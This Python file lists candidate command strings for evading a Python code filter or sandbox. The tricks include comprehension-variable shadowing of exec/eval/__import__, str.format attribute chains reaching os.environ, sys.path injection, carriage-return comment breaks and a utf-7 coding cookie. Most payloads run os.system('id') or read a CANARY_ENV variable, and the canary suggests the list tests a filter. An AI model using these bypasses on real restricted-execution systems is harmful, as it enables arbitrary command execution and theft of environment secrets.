import shlex
def py(code, exe='python3', pre=''): return f"{pre}{exe} -c {shlex.quote(code)}"
CANDS=[
 py("print(1)"),
 # comprehension-var lookahead: builtins not in list
 py("list(map(exec, ['import os; os.system(\"id\")'])) + [0 for exec in []]"),
 py("[*map(eval, ['__import__(\"os\").system(\"id\")'])] + [0 for eval in []]"),
 py("print(sorted(['__import__(\"os\").environ[\"CANARY_ENV\"]'], key=eval), [0 for eval in []])"),
 py("print(list(map(getattr, [1], ['real'])), [0 for getattr in []])"),
 py("print([*map(__import__, ['os'])], [0 for __import__ in []])"),
 # str.format via method value
 py("import sys; print(list(map('{0.modules[os].environ[CANARY_ENV]}'.format, [sys])))"),
 py("import json; print(list(map('{0.__globals__[codecs].sys.modules[os].environ[CANARY_ENV]}'.format, [json.dumps])))"),
 py("import sys; print(*map('{0.modules[os].environ}'.format_map, [{}]))"),
 # sys.path manipulation
 py("import sys; list(map(sys.path.insert, [0], ['sub'])); import json"),
 py("import sys; list(map(sys.path.append, ['sub'])); import tomllib"),
 py("import sys; list(map(sys.path.insert, [0], ['sub'])); b''.decode('bz2_codec')"),
 py("import sys; sorted(['sub'], key=sys.path.append); import this"),
 # comment ending at CR
 py("print(1) # \rimport os; os.system('id')"),
 py("print(1) #\r__import__('os').system('id')"),
 # coding cookie
 py("# coding: utf-7\nprint('+AGEAYgBj-')"),
]
